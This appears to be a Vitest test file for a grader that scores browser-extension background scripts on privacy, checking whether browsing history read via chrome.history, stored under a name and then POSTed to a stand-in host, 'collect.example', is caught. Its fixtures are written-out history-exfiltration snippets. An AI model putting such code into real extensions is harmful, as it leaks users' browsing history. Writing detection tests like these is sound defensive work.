import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* `function keep(name, one) { all[name] = one; }`: what is kept under one name does not come out under another. */

const manifest = { permissions: ['history', 'storage'] };
const send = (what: string): string =>
  `fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(${what}) });`;

describe.each([
  ['a function', 'const all = {}; function keep(name, one) { all[name] = one; } const kept = all;'],
  [
    'a class',
    'class Store { constructor() { this.all = {}; } keep(name, one) { this.all[name] = one; } } const store = new Store(); const keep = (name, one) => store.keep(name, one); const kept = store.all;',
  ],
  [
    'a closure',
    'const all = {}; const keep = (name, one) => Promise.resolve().then(() => { all[name] = one; }); const kept = all;',
  ],
])('kept by %s that is told a name', (_, store) => {
  const background = (what: string): string =>
    `${store} chrome.history.search({ text: '' }, (found) => { keep('visits', found); keep('theme', 'dark'); ${send(what)} });`;
  it('is found under it', async () => {
    expect(await graded({ background: background('kept.visits'), manifest })).toBe('F');
    expect(await graded({ background: background('kept'), manifest })).toBe('F');
  });
  it('is not found under another', async () => {
    const grade = await graded({ background: background('kept.theme'), manifest });
    // What hands names on itself is not told them yet.
    if (store.startsWith('class')) expect(grade).toBe('F');
    else expect(grade).toMatch(/^A/);
  });
});

it('what is stored under a name that a function is told', async () => {
  const background = (name: string): string =>
    `const save = (key, value) => chrome.storage.local.set({ [key]: value }); chrome.history.search({ text: '' }, (found) => { save('visits', found); save('theme', 'dark'); }); setInterval(async () => { const { ${name} } = await chrome.storage.local.get('${name}'); ${send(name)} }, 9000);`;
  expect(await graded({ background: background('visits'), manifest })).toBe('F');
  expect(await graded({ background: background('theme'), manifest })).toMatch(/^A/);
});
